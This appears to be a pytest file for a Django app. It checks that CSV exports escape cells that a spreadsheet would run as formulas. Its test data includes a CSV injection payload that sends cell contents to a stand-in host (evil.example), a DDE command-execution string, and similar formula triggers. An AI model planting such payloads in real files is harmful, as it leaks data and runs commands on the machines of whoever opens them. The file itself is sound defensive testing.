"""CSV downloads open in Excel and never carry a formula a spreadsheet would run (the shared writer,
and the request list's export that uses it)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from requests_app import csv_export
from requests_app.models import Customer
from tests.requests_app.sales_factories import file_request

EXPORT = reverse("requests_app:export")


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("http://evil.example/?x="&A1,"click me")', '\'=HYPERLINK("http://evil.example/?x="&A1,"click me")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("-2+3", "'-2+3"),
        ("\tindented", "'\tindented"),
        ("\rreturn", "'\rreturn"),
        ("-7.5", "-7.5"),  # a plain negative number stays a number
        ("-360", "-360"),
        ("Acme = best", "Acme = best"),  # only the first character matters
        (Decimal("-360.00"), Decimal("-360.00")),
        (None, ""),
    ],
)
def test_cells_that_would_run_as_formulas_are_neutralised(value, written):
    assert csv_export.safe_cell(value) == written


def test_every_file_starts_with_a_byte_order_mark_and_quotes_as_csv_does():
    text = "".join(csv_export.csv_lines([["a", "b, c"], [1, "=1+1"]]))
    assert text == '\ufeffa,"b, c"\r\n1,\'=1+1\r\n'


def read(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:])))


def test_the_request_export_is_streamed_and_neutralises_what_a_rep_typed(client, rep, product):
    evil = Customer.objects.create(name="+cmd|' /C calc'!A0")
    file_request(rep, evil, None, title='=HYPERLINK("http://evil.example","click")',
                 part_description="@SUM(1+1)*cmd|' /C calc'!A0", unit="-2+3")
    client.force_login(rep)
    response = client.get(EXPORT)
    assert response.streaming and response["Content-Type"] == "text/csv; charset=utf-8"
    header, row = read(response)
    record = dict(zip(header, row, strict=True))
    assert record["title"] == '\'=HYPERLINK("http://evil.example","click")'
    assert record["customer"] == "'+cmd|' /C calc'!A0"
    assert record["part"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert record["unit"] == "'-2+3"
